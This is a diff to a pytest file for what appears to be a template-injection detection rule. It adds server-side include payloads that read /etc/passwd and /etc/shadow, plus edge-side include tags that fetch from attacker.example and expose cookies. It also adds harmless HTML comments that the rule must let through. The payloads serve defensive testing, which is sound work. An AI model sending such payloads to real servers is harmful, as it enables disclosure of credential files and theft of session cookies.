@@ -30,6 +30,13 @@ CTX = ScanContext()
         ("{php}echo `id`;{/php}", "HG-SSTI-003"),
         ("__${7*7}__::.x", "HG-SSTI-003"),
         ("<% @users.each do |u| %>", "HG-SSTI-003"),
+        ('<!--#exec cmd="cat /etc/passwd" -->', "HG-SSTI-004"),
+        ('<!--#include virtual="/etc/shadow"-->', "HG-SSTI-004"),
+        ("<!--#printenv -->", "HG-SSTI-004"),
+        ('<!-- #echo var="DOCUMENT_ROOT" -->', "HG-SSTI-004"),
+        ('<!--#config errmsg="x"--><!--#fsize file="index.shtml" -->', "HG-SSTI-004"),
+        ('<esi:include src="http://attacker.example/x.html"/>', "HG-SSTI-004"),
+        ("<ESI:VARS>$(HTTP_COOKIE)</ESI:VARS>", "HG-SSTI-004"),
     ],
 )
 def test_rules_fire_on_real_payloads(payload: str, rule_id: str) -> None:
@@ -45,6 +52,10 @@ def test_rules_fire_on_real_payloads(payload: str, rule_id: str) -> None:
         "utm_content={{ad.name}}&utm_campaign={{campaign.name}}",
         "Call us @(555-1234)",
         "<% percent %>",
+        "<!-- saved from the editor -->",
+        "<!--[if lt IE 9]><script src=\"/js/html5shiv.js\"></script><![endif]-->",
+        "<!-- #region header --><h1>Hello</h1>",
+        "Sizes: <!--#--> and # not a directive",
     ],
 )
 def test_unexpanded_placeholders_and_text_pass(value: str) -> None:
